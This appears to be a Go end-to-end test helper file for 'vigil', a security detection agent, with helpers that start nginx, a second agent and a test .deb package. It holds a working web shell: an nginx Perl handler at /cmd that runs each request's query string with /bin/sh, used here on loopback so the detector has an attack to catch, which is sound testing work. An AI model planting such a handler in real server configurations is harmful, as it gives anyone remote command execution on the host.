package rules_test

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/vigilsec/vigil/internal/testutil"
)

// hostTool returns the path of a program the attacks use and the file
// the kernel will report as its executable (symbolic links resolved).
// scripts/test.sh installs them; a missing one fails in CI.
func hostTool(t *testing.T, name string) (path, exe string) {
	t.Helper()
	for _, dir := range []string{"/usr/sbin", "/usr/bin", "/sbin", "/bin"} {
		p := filepath.Join(dir, name)
		if st, err := os.Stat(p); err == nil && st.Mode().IsRegular() {
			exe, err := filepath.EvalSymlinks(p)
			if err != nil {
				t.Fatal(err)
			}
			return p, exe
		}
	}
	testutil.Require(t, false, name+" (scripts/test.sh installs it)")
	return "", ""
}

// freePort returns a loopback TCP port nobody listens on now.
func freePort(t *testing.T) int {
	t.Helper()
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	return ln.Addr().(*net.TCPAddr).Port
}

// waitListening waits until something accepts connections on addr.
func waitListening(t *testing.T, addr string, exited <-chan struct{}) {
	t.Helper()
	for deadline := time.Now().Add(30 * time.Second); ; {
		if c, err := net.DialTimeout("tcp", addr, time.Second); err == nil {
			_ = c.Close() // connected only to see that it listens
			return
		}
		select {
		case <-exited:
			t.Fatalf("the server meant to listen on %s exited", addr)
		case <-time.After(50 * time.Millisecond):
		}
		if time.Now().After(deadline) {
			t.Fatalf("nothing listens on %s", addr)
		}
	}
}

// nginxPerlShell is the web shell: a location whose embedded Perl
// handler runs the request's query string with /bin/sh, as a backdoored
// or exploited nginx does. The shell is a child of the nginx worker.
const nginxPerlShell = `perl 'sub {
	my $r = shift;
	my $cmd = $r->args;
	$cmd =~ s/\+/ /g;
	$cmd =~ s/%([0-9A-Fa-f]{2})/chr(hex($1))/eg;
	open(my $fh, "-|", "/bin/sh", "-c", $cmd) or return 500;
	my $out = join("", <$fh>);
	close($fh);
	$r->send_http_header("text/plain");
	$r->print($out);
	return OK;
}';`

// startNginx runs Debian's nginx (master as root, a worker as www-data)
// on a loopback port with the web shell at /cmd, and returns its base URL.
func startNginx(t *testing.T) string {
	t.Helper()
	nginx, _ := hostTool(t, "nginx")
	const module = "/usr/lib/nginx/modules/ngx_http_perl_module.so"
	_, err := os.Stat(module)
	testutil.Require(t, err == nil, module+" (libnginx-mod-http-perl; scripts/test.sh installs it)")
	dir, err := os.MkdirTemp(workDir(t), "nginx-")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	addr := fmt.Sprintf("127.0.0.1:%d", freePort(t))
	conf := fmt.Sprintf(`load_module %s;
daemon off;
user www-data;
worker_processes 1;
pid %[2]s/nginx.pid;
error_log %[2]s/error.log;
events {}
http {
	access_log off;
	client_body_temp_path %[2]s/body;
	proxy_temp_path %[2]s/proxy;
	fastcgi_temp_path %[2]s/fastcgi;
	uwsgi_temp_path %[2]s/uwsgi;
	scgi_temp_path %[2]s/scgi;
	server {
		listen %[3]s;
		location /cmd {
			%[4]s
		}
	}
}
`, module, dir, addr, nginxPerlShell)
	if err := os.WriteFile(filepath.Join(dir, "nginx.conf"), []byte(conf), 0o644); err != nil {
		t.Fatal(err)
	}
	srv := exec.Command(nginx, "-c", filepath.Join(dir, "nginx.conf"), "-p", dir)
	var stderr bytes.Buffer
	srv.Stderr = &stderr
	if err := srv.Start(); err != nil {
		t.Fatal(err)
	}
	exited := make(chan struct{})
	go func() {
		_ = srv.Wait() // stopped by the cleanup: its exit status is not the point
		close(exited)
	}()
	t.Cleanup(func() {
		// nginx's graceful shutdown; a failure means it has exited already.
		if err := srv.Process.Signal(syscall.SIGQUIT); err != nil {
			t.Logf("cleanup: nginx: %v", err)
		}
		<-exited
		if t.Failed() {
			log, _ := os.ReadFile(filepath.Join(dir, "error.log"))
			t.Logf("nginx: %s%s", stderr.Bytes(), log)
		}
	})
	waitListening(t, addr, exited)
	return "http://" + addr
}

// httpGet fetches url and returns the body.
func httpGet(t *testing.T, url string) string {
	t.Helper()
	client := &http.Client{Timeout: 10 * time.Second}
	resp, err := client.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
	if err != nil {
		t.Fatal(err)
	}
	return resp.Status + " " + string(body)
}

// startVigilTarget starts a second, real vigil agent for an attack to
// signal: `vigil run` with one rule of its own (so that it loads only a
// small kernel filter beside the agent under test), and returns it once
// it logged that it runs.
func startVigilTarget(t *testing.T) *exec.Cmd {
	t.Helper()
	rules := filepath.Join(workDir(t), "target-rules.yaml")
	if err := os.WriteFile(rules, []byte(`- rule: e2e target agent
  desc: a rule that never fires, so that this agent loads and idles
  condition: evt.type = init_module and proc.name = e2e-never
  output: never (proc=%proc.name)
  priority: INFO
`), 0o644); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(built.vigil, "run", "--rules", rules)
	cmd.Env = agentEnv()
	stderr, err := cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { testutil.KillAndWait(cmd) })
	running := make(chan bool, 2)
	go func() {
		sc := bufio.NewScanner(stderr)
		sc.Buffer(nil, 1<<20)
		for sc.Scan() {
			if strings.Contains(sc.Text(), `msg="running 1 rules"`) {
				running <- true
			}
		}
		running <- false
		_, _ = io.Copy(io.Discard, stderr) // drained only, so that the agent never blocks on a full pipe
	}()
	select {
	case ok := <-running:
		if !ok {
			t.Fatal("the target vigil exited before it ran")
		}
	case <-time.After(startTimeout):
		t.Fatal("the target vigil did not start")
	}
	return cmd
}

// buildDeb builds, with Debian's dpkg-deb, a package named name holding
// one documentation file, into the shared container's /drop, and
// returns its path there.
func buildDeb(t *testing.T, name string) string {
	t.Helper()
	dpkgDeb, _ := hostTool(t, "dpkg-deb")
	sharedContainer(t)
	root := filepath.Join(t.TempDir(), name)
	control := fmt.Sprintf("Package: %s\nVersion: 1.0\nArchitecture: all\nMaintainer: e2e <e2e@example.com>\nDescription: the attack suite's package\n", name)
	for path, text := range map[string]string{
		"DEBIAN/control":                    control,
		"usr/share/doc/" + name + "/README": "installed by the attack suite\n",
	} {
		plant(t, filepath.Join(root, path), text)
		if err := os.Chmod(filepath.Join(root, path), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	deb := filepath.Join(shared.drop, name+".deb")
	if out, err := exec.Command(dpkgDeb, "-Zgzip", "--root-owner-group", "--build", root, deb).CombinedOutput(); err != nil {
		t.Fatalf("dpkg-deb: %v: %s", err, out)
	}
	t.Cleanup(func() {
		if err := os.Remove(deb); err != nil {
			t.Logf("cleanup: %v", err)
		}
	})
	return "/drop/" + name + ".deb"
}
